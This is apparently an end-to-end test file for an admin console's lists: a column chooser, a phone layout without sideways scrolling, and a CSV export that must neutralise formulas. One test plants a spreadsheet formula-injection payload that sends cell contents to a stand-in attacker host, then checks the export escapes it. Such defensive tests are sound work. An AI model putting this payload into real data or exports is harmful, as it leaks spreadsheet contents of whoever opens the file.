/**
 * Console lists as an admin meets them: a column chooser on a laptop, one line per record on a
 * phone with no table to scroll sideways, and an export a spreadsheet opens without running what a user typed.
 */
import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import { downloaded, startE2E, type E2E } from '../helpers/e2e';

let e2e: E2E;

beforeAll(async () => {
  e2e = await startE2E();
});

async function consolePage(viewport: { width: number; height: number }): Promise<Page> {
  const page = await e2e.newPage(viewport);
  await page.goto(`${e2e.baseUrl}/admin/login`);
  await page.getByLabel('Work email').fill('admin@example.com');
  await page.getByRole('button', { name: 'Send code' }).click();
  await page.getByLabel('Six-digit code').waitFor();
  await page.getByLabel('Six-digit code').fill(await e2e.lastCode('admin@example.com'));
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.waitForURL((url) => !url.pathname.endsWith('/login'));
  return page;
}

describe('Console tables', () => {
  it.each(['companies', 'talent'])('The %s list offers a column chooser beside its filters', async (path) => {
    const page = await consolePage({ width: 1440, height: 900 });
    await page.goto(`${e2e.baseUrl}/admin/${path}?filter=%7B%7D`);
    await page.locator('tbody tr').first().waitFor();
    await page.getByRole('button', { name: /columns/i }).waitFor();
  });

  it('On a phone the company list shows one line per company, with no table to scroll sideways', async () => {
    const page = await consolePage({ width: 390, height: 844 });
    await page.goto(`${e2e.baseUrl}/admin/companies?filter=%7B%7D`);
    await page.getByText('Acme', { exact: true }).waitFor();
    expect(await page.locator('table').count()).toBe(0);
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
  });

  it('The talent export keeps a name typed as a formula as text, so a spreadsheet does not run it', async () => {
    // A candidate's name is free text: anyone signing up may type a spreadsheet formula into it.
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
    const { id, email } = await e2e.db.knex('candidates').whereNotNull('email').orderBy('id').first('id', 'email');
    await e2e.db.knex('candidates').where({ id }).update({ first_name: formula });
    const page = await consolePage({ width: 1440, height: 900 });
    await page.goto(`${e2e.baseUrl}/admin/talent?filter=${encodeURIComponent(JSON.stringify({ q: email }))}`);
    await page.getByRole('row').filter({ hasText: email }).waitFor();
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Export' }).click(),
    ]);
    const csv = (await downloaded(download)).toString('utf8');
    const line = csv.split('\r\n').find((l) => l.includes(email));
    expect(line).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"`);
    // No cell of the file starts a formula.
    expect(csv).not.toMatch(/(^|,)"?=/m);
  });
});
